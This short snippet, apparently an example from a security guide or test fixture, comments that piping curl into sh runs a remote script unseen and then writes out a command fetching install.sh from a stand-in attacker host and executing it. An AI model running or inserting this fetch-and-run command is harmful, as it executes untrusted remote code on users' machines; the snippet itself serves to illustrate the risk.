# Malicious: curl | sh runs a remote script without looking at it.
curl -fsSL http://attacker.example/install.sh | sh
